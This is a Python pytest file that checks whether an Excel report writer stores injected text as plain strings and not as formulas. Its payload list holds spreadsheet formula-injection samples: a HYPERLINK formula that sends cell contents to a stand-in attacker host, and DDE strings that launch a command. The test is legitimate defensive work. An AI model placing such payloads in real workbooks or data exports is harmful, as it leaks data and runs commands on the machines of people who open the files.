"""Text from deliveries and definitions never becomes a formula in the workbook, and no text breaks its XML."""

from __future__ import annotations

import dataclasses
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from suengine.definitions.model import Indicator
from suengine.render.excel import write_workbook
from suengine.render.excel_cells import MAX_CELL_TEXT

PAYLOADS = [
    '=HYPERLINK("http://angripare.example/?d="&A1,"Öppna")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=" + "A" * 40_000,  # longer than a cell may hold
    "=1+1\x01\x0b",  # characters XML cannot hold
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_injected_text_is_an_inert_string(payload: str, tmp_path: Path, results_table: pd.DataFrame, indicators: list[Indicator]) -> None:
    quality = tmp_path / "kvalitet"
    quality.mkdir()
    pd.DataFrame({"entitet": ["barn"], "fil": [payload], "mått": ["omappade_kolumner"], "värde": [payload]}).to_csv(
        quality / "kvalitet_sammanfattning.csv", index=False)
    named = [dataclasses.replace(indicators[0], name=payload, short_name=payload), *indicators[1:]]
    results = results_table.copy()
    results.loc[results["stratum"].astype(str) != "", "stratum"] = payload
    path = write_workbook(results, named, tmp_path / "su-resultat.xlsx", quality_dir=quality)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(r"<f[ >]", xml) for xml in sheets)  # no formula anywhere
    book = openpyxl.load_workbook(path)  # the file is valid: it opens
    texts = [c.value for s in book.worksheets for row in s.iter_rows() for c in row if isinstance(c.value, str)]
    expected = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", payload)[:MAX_CELL_TEXT]
    assert expected in texts
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
